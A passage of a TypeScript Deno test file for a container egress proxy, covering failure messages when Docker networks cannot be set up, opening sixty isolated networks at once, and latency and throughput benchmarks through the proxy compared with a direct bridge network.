    listNetworks: () => Promise.resolve([]),
    createNetwork: ({ Name }: { Name: string }) => {
      networks.add(Name);
      return Promise.resolve(Name);
    },
    removeNetwork: (name: string) => Promise.resolve(void networks.delete(name)),
    ...{ startContainer: done, connectNetwork: done, disconnectNetwork: done },
  };
  return docker as unknown as Docker;
}

const done = () => Promise.resolve();

for (
  const [what, configures, pool, saying] of [
    ["a proxy that is lost after three networks failed", 3, "10.214.96.0/24", {
      reason: /^The egress proxy went away$/,
      nextStep: /starts the egress proxy again/,
    }],
    ["a small range in which all networks fail", Infinity, "10.214.96.0/28", {
      reason: /^2 networks of 10\.214\.96\.0\/28 cannot be used, the last because it answers$/,
      nextStep: /Set DTMA_SUBNETS/,
    }],
  ] as const
) {
  Deno.test(`egress: ${what} is told`, async () => {
    const egress = openEgress({
      docker: failingEngine("it answers", configures),
      toolboxId: crypto.randomUUID(),
      pool,
      onDenied: () => {},
      log: () => {},
    });
    const server = { serverId: crypto.randomUUID(), hosts: ["a.test:443"], labels: {} };
    try {
      await assert.rejects(egress.open(`mooring-${server.serverId}`, server), saying);
    } finally {
      await egress.detach();
    }
  });
}

egressTest("sixty networks are opened at once, each server with its own hosts", async (scene) => {
  const { world, egress, toolbox: { docker, id } } = scene;
  const servers = Array.from({ length: 60 }, () => crypto.randomUUID());
  const began = performance.now();
  const routes = await Promise.all(servers.map((serverId) =>
    egress.open(`mooring-${serverId}`, {
      serverId,
      hosts: [`api.example.test:${world.tls}`, "api.example.test:443", "api.example.test:80"],
      labels: { [Label.toolbox]: id, [Label.server]: serverId },
    })
  ));
  const each = (performance.now() - began) / servers.length;
  console.log(`    60 networks: ${each.toFixed(0)} ms each`);
  assert.equal(new Set(routes.map(({ proxyAddress }) => proxyAddress)).size, 60);
  const inside = await scene.open([`api.example.test:${world.tls}`]);
  assert.equal(
    await inside.run("return await get(input)", {
      ...{ host: "api.example.test", port: world.tls, ca: world.ca },
    }),
    "200 tls api.example.test",
  );
  const closed = performance.now();
  await Promise.all(servers.map((serverId) => egress.close(`mooring-${serverId}`)));
  console.log(`    closed: ${((performance.now() - closed) / servers.length).toFixed(0)} ms each`);
  assert.deepEqual(
    (await docker.listNetworks([`${Label.toolbox}=${id}`])).map(({ Name }) => Name).sort(),
    [
      inside.container,
      `mooring-egress-${id}`,
    ].sort(),
  );
});

egressTest("a stream through the proxy, measured against one past it", async (scene) => {
  const { world, toolbox: { docker, id } } = scene;
  const inside = await scene.open([`api.example.test:${world.echo}`]);
  const measure = `const { port, host } = input;
    const socket = net.connect(port, host).setNoDelay(true);
    await new Promise((done) => socket.once("data", done));
    const times = [];
    for (let round = 0; round < 500; round++) {
      const began = process.hrtime.bigint();
      socket.write("x");
      await new Promise((done) => socket.once("data", done));
      times.push(Number(process.hrtime.bigint() - began) / 1000);
    }
    times.sort((a, b) => a - b);
    const bytes = 64 * 1024 * 1024;
    const block = Buffer.alloc(64 * 1024);
    const began = Date.now();
    let came = 0;
    const all = new Promise((done) => socket.on("data", (chunk) => (came += chunk.length) >= bytes && done()));
    for (let sent = 0; sent < bytes; sent += block.length) {
      if (!socket.write(block)) await new Promise((done) => socket.once("drain", done));
    }
    await all;
    const seconds = (Date.now() - began) / 1000;
    socket.destroy();
    return { p50: times[250], p99: times[495], mibPerSecond: 64 / seconds };`;
  const through = await inside.run(measure, { host: "api.example.test", port: world.echo });
  // Past it: the same container on a common bridge network.
  const network = `mooring-test-direct-${id}`;
  await docker.createNetwork({
    ...{ Name: network, Driver: "bridge", Labels: { [Label.toolbox]: id } },
    IPAM: { Config: [{ Subnet: "10.214.78.0/24" }] },
  });
  await docker.connectNetwork(network, inside.containerId, "10.214.78.9");
  const direct = await inside.run(measure, { host: HOST, port: world.echo });
  const text = ({ p50, p99, mibPerSecond }: Record<string, number>) =>
    `p50 ${p50.toFixed(0)} us, p99 ${p99.toFixed(0)} us, echo ${mibPerSecond.toFixed(0)} MiB/s`;
  console.log(`    through: ${text(through)}\n    direct:  ${text(direct)}`);
});
